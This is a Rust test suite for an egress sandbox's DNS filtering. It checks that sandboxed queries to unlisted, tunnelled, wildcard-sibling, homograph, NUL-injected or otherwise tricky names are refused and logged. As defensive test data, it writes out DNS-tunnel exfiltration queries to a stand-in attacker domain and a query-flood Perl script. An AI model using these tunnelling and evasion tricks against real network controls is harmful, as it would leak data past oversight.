//! Names and queries.

use crate::egress::bytes::{A, AAAA, ANY, AXFR, HTTPS, TXT, answered, ask, get, over_tcp, query};
use crate::egress::net::{Net, net, sh, tcp, udp};

/// Whom a program inside asks.
const INSIDE: &str = "198.18.0.2";
const DIRECT: &str = "93.184.215.53";
const ALLOWED: &[&str] = &["www.example.org"];

const OK: u8 = 0;
const SERVFAIL: u8 = 2;
const NXDOMAIN: u8 = 3;
const REFUSED: u8 = 5;

/// Asks outside, where the question arrives, and inside, where it must not.
fn asks(net: &Net, allow: &[&str], bytes: &[u8]) -> (Option<(u8, u8)>, crate::egress::net::Ended) {
    net.reaches(&udp(DIRECT, 53, bytes), DIRECT, 53);
    let ended = net.inside(allow, &udp(INSIDE, 53, bytes));
    assert_eq!(net.seen(), [], "{ended:?}");
    (answered(&ended.out), ended)
}

#[test]
fn unlisted_name() {
    let (answer, ended) = asks(&net(), ALLOWED, &ask("evil.example.net", A));
    assert_eq!(answer, Some((NXDOMAIN, 0)));
    assert_eq!(ended.recorded("name_not_listed")["name"], "evil.example.net");
}

#[test]
fn dns_tunnel_labels() {
    let net = net();
    for name in ["73656372657473.evil.example.net", "73656372657473.www.example.org"] {
        let (answer, ended) = asks(&net, ALLOWED, &ask(name, A));
        assert_eq!(answer, Some((NXDOMAIN, 0)));
        assert_eq!(ended.recorded("name_not_listed")["name"], name);
    }
    // Under a wildcard too, a query alone goes nowhere.
    let (answer, _) = asks(&net, &["*.wild.example.org"], &ask("73656372657473.wild.example.org", A));
    assert_eq!(answer, Some((OK, 1)));
}

#[test]
fn dns_tunnel_txt() {
    let net = net();
    let (answer, ended) = asks(&net, ALLOWED, &ask("txt.example.org", TXT));
    assert_eq!(answer, Some((NXDOMAIN, 0)));
    ended.recorded("name_not_listed");
    for kind in [TXT, AAAA, HTTPS, 33, 10] {
        let (answer, _) = asks(&net, ALLOWED, &ask("www.example.org", kind));
        assert_eq!(answer, Some((OK, 0)), "{kind}");
    }
}

#[test]
fn dns_any_axfr() {
    let net = net();
    for kind in [ANY, AXFR] {
        let (answer, ended) = asks(&net, ALLOWED, &ask("www.example.org", kind));
        assert_eq!(answer, Some((REFUSED, 0)), "{kind}");
        ended.recorded("query_kind");
    }
    let ended = net.inside(ALLOWED, &tcp(INSIDE, 53, &over_tcp(&ask("www.example.org", AXFR))));
    assert_eq!(net.seen(), []);
    ended.recorded("query_kind");
}

#[test]
fn wildcard_sibling() {
    let net = net();
    for name in ["wild.example.org", "badwild.example.org", "a.wild.example.org.evil.example.net"] {
        let (answer, ended) = asks(&net, &["*.wild.example.org"], &ask(name, A));
        assert_eq!(answer, Some((NXDOMAIN, 0)), "{name}");
        ended.recorded("name_not_listed");
    }
    let reached = net.inside(&["*.wild.example.org"], &sh("curl -sS -m 5 http://a.b.wild.example.org/canary"));
    assert_eq!(reached.out, "canary a.b.wild.example.org\n");
}

#[test]
fn wildcard_depth_flood() {
    let net = net();
    let flood = r#"
        use IO::Socket::IP; use IO::Select;
        my $s = IO::Socket::IP->new(PeerHost => '198.18.0.2', PeerPort => 53, Proto => 'udp');
        my %codes;
        for my $n (1 .. 300) {
            my $name = join '', map { chr(length) . $_ } ("n$n", 'deep', 'wild', 'example', 'org');
            send $s, pack('n6', $n, 0x100, 1, 0, 0, 0) . "$name\0" . pack('n2', 1, 1), 0;
            IO::Select->new($s)->can_read(2) or next; recv $s, my $answer, 999, 0;
            $codes{ord(substr $answer, 3, 1) & 15}++;
            select undef, undef, undef, 0.006;
        }
        print join ' ', map { "$_:$codes{$_}" } sort keys %codes;
    "#;
    let ended = net.inside(&["*.wild.example.org"], &["perl", "-e", flood].map(str::to_owned));
    assert_eq!(net.seen(), [], "nothing is forwarded");
    assert_eq!(ended.out, format!("{OK}:256 {SERVFAIL}:44"), "{ended:?}");
    assert_eq!(ended.count("wildcard_limit"), 44);
}

#[test]
fn trailing_dot() {
    let net = net();
    let probe = tcp("www.example.org.", 80, &get("www.example.org.", "/canary"));
    net.reaches(&tcp("93.184.215.10", 80, &get("www.example.org.", "/canary")), "93.184.215.10", 80);
    let ended = net.inside(ALLOWED, &probe);
    assert_eq!(net.seen(), []);
    assert!(ended.out.starts_with("HTTP/1.1 403 "), "{ended:?}");
    ended.recorded("host_mismatch");
    let (answer, ended) = asks(&net, ALLOWED, &ask("evil.example.net", A));
    assert_eq!(answer, Some((NXDOMAIN, 0)));
    ended.recorded("name_not_listed");
}

#[test]
fn upper_case_name() {
    let net = net();
    let (answer, ended) = asks(&net, ALLOWED, &ask("EVIL.Example.NET", A));
    assert_eq!(answer, Some((NXDOMAIN, 0)));
    assert_eq!(ended.recorded("name_not_listed")["name"], "evil.example.net");
    // A listed name is the same name in capitals, and a denied one too.
    let ended = net.inside(ALLOWED, &sh("curl -sS -m 5 http://WWW.Example.ORG/canary"));
    assert_eq!(ended.out.to_lowercase(), "canary www.example.org\n", "{ended:?}");
    net.testnet.forget().unwrap();
    let arguments = ["--profile", "T0.H1.N1", "--allow", "*.example.org", "--deny", "www.example.org"];
    let ended = net.run(&arguments, &sh("curl -sS -m 5 http://WWW.Example.ORG/canary"));
    assert_eq!(net.seen(), []);
    ended.recorded("name_denied");
}

#[test]
fn idn_homograph() {
    let net = net();
    // A Cyrillic letter, as its punycode and as it is.
    let (answer, ended) = asks(&net, ALLOWED, &ask("www.xn--exmple-4nf.org", A));
    assert_eq!(answer, Some((NXDOMAIN, 0)));
    ended.recorded("name_not_listed");
    let labels: &[&[u8]] = &[b"www", "ex\u{430}mple".as_bytes(), b"org"];
    let (answer, ended) = asks(&net, ALLOWED, &query(labels, A));
    assert_eq!(answer, Some((NXDOMAIN, 0)));
    ended.recorded("bad_name");
}

#[test]
fn query_of_another_class_is_recorded_with_its_name() {
    let net = net();
    // CHAOS: what a program asks about a server, not about a host.
    let mut question = ask("secret.evil.example.net", TXT);
    net.reaches(&udp(DIRECT, 53, &question), DIRECT, 53);
    *question.last_mut().unwrap() = 3;
    let ended = net.inside(ALLOWED, &udp(INSIDE, 53, &question));
    assert_eq!(net.seen(), []);
    let shown = serde_json::json!({"query": ["secret.evil.example.net TXT CH"]});
    assert_eq!(ended.recorded("bad_query")["shown"], shown);
    // What is no message at all is shown as it is.
    let ended = net.inside(ALLOWED, &udp(INSIDE, 53, b"\x1b[31mhello"));
    assert_eq!(ended.recorded("bad_query")["shown"], serde_json::json!({"bytes": r"\x1b[31mhello"}));
}

#[test]
fn nul_in_name() {
    let net = net();
    let tricks: &[&[&[u8]]] = &[
        &[b"www.example.org\0", b"evil", b"example", b"net"],
        &[b"www", b"example", b"org\0"],
        &[b"www.example", b"org"],
    ];
    for labels in tricks {
        let (answer, ended) = asks(&net, ALLOWED, &query(labels, A));
        assert_eq!(answer, Some((NXDOMAIN, 0)), "{labels:?}");
        ended.recorded("bad_name");
    }
}

#[test]
fn denied_at_n0_whatever_the_label() {
    let net = net();
    let n0 = ["--profile", "T0.H1.N0", "--justification", "a test", "--deny", "*.example.net"];
    for label in [&b"a+secret"[..], b"_x", b"-x", b"plain", b"\x1b[31m"] {
        let question = query(&[label, b"example", b"net"], A);
        net.reaches(&udp(DIRECT, 53, &question), DIRECT, 53);
        let ended = net.run(&n0, &udp(INSIDE, 53, &question));
        assert_eq!(net.seen(), [], "{ended:?}");
        assert_eq!(answered(&ended.out), Some((NXDOMAIN, 0)), "{ended:?}");
        ended.recorded("name_denied");
    }
}
